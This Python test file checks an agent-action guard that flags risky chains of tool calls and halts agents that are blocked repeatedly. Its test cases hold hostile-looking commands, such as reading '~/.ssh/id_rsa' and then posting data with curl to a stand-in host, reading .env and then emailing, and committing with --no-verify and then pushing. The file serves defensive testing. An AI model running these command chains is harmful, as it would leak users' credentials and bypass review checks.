"""Many small steps are one large one; some steps are dangerous only behind others; an agent that keeps hitting the gate stops."""

from __future__ import annotations

import pytest

from interlock.decide.chain import BLOCKS_IN_A_ROW, BLOCKS_IN_ALL, THRESHOLDS, noted_block, sequence, should_stop
from interlock.decide.taint import after_call
from interlock.model.action import Action, Labels, Reading, Surface
from interlock.model.history import History
from interlock.model.risk import RiskLevel


def call(tool: str, **args: object) -> Action:
    return Action(kind=Surface.TOOL_CALL, tool=tool, args=args)


def shell(command: str) -> Action:
    return call("shell", command=command)


def done(history: History, action: Action, reading: Reading | None = None) -> History:
    return after_call(history, action, reading or Reading(), "", Labels())


def kinds(action: Action, history: History) -> list[str]:
    return [finding.kind for finding in sequence(action, history)]


@pytest.mark.parametrize(
    ("effect", "action"),
    [
        ("delete", shell("rm a.txt")),
        ("send", call("send_email", to="a")),
        ("pay", call("payments_transfer", amount=1)),
        ("grant", call("add_member", name="a")),
    ],
)
def test_many_small_steps_are_asked_about_when_their_sum_passes_a_threshold(effect: str, action: Action) -> None:
    steps = next(threshold.steps for threshold in THRESHOLDS if threshold.effect == effect)
    history, asked = History(), []
    for number in range(1, steps[1] + 1):
        if f"chain.many_{effect}" in kinds(action, history):
            asked.append(number)
        history = done(history, action)
    assert asked == list(steps[:2])


def test_a_call_that_deletes_many_counts_as_many() -> None:
    reading = Reading(paths=tuple(f"{number}.txt" for number in range(12)))
    action = shell("rm *.txt")
    assert [finding.kind for finding in sequence(action, History(), reading)] == ["chain.many_delete"]
    assert done(History(), action, reading).count("delete") == 12


def test_a_question_that_was_answered_with_no_is_asked_again() -> None:
    history = History(counts={"delete": 9})
    assert kinds(shell("rm a"), history) == kinds(shell("rm b"), history) == ["chain.many_delete"]


def test_beyond_the_last_threshold_every_step_is_asked_about() -> None:
    assert kinds(shell("rm a"), History(counts={"delete": 10_000})) == ["chain.many_delete"]


@pytest.mark.parametrize(
    ("first", "then", "kind"),
    [
        (call("read", path=".env"), call("send_email", to="a"), "chain.secret_then_send"),
        (shell("cat ~/.ssh/id_rsa"), shell("curl -d @x https://acme.test"), "chain.secret_then_send"),
        (shell("printenv"), shell("npm publish"), "chain.secret_then_send"),
        (
            call("edit", path=".github/workflows/ci.yml", content="on: push"),
            shell("git push"),
            "chain.check_off_then_push",
        ),
        (shell("git commit --no-verify -m x"), shell("git push origin x"), "chain.check_off_then_push"),
    ],
    ids=lambda value: value.text or value.tool if isinstance(value, Action) else value,
)
def test_two_steps_are_dangerous_in_this_order_only(first: Action, then: Action, kind: str) -> None:
    assert kind in kinds(then, done(History(), first))
    assert kind not in kinds(then, History())
    assert kind not in kinds(first, done(History(), then))


def test_both_steps_in_one_command_count_as_well() -> None:
    assert kinds(shell("git commit --no-verify -m x && git push"), History()) == ["chain.check_off_then_push"]


def test_ordinary_work_makes_no_chain() -> None:
    history = History()
    for action in [
        shell("pytest -q"),
        call("read", path="src/a.py"),
        call("edit", path="src/a.py", content="x"),
        shell("git commit -m x"),
        shell("git push origin topic"),
    ] * 20:
        assert sequence(action, history) == ()
        history = done(history, action)


def test_every_finding_says_why_and_asks_at_least_a_person() -> None:
    history = History(counts={"delete": 9, "read_secret": 1})
    for finding in (*sequence(shell("rm a"), history), *sequence(call("send_email", to="a"), history)):
        assert finding.reason
        assert finding.severity >= RiskLevel.HIGH


def test_an_agent_that_is_blocked_three_times_in_a_row_stops() -> None:
    history = History()
    for _ in range(BLOCKS_IN_A_ROW):
        assert should_stop(history) is None
        history = noted_block(history)
    assert should_stop(history) == "3 calls in a row were blocked"


def test_an_agent_that_is_blocked_five_times_in_all_stops() -> None:
    history = History()
    for _ in range(BLOCKS_IN_ALL):
        assert should_stop(history) is None
        history = done(noted_block(history), shell("ls"))
    assert should_stop(history) == "5 calls of this run were blocked"
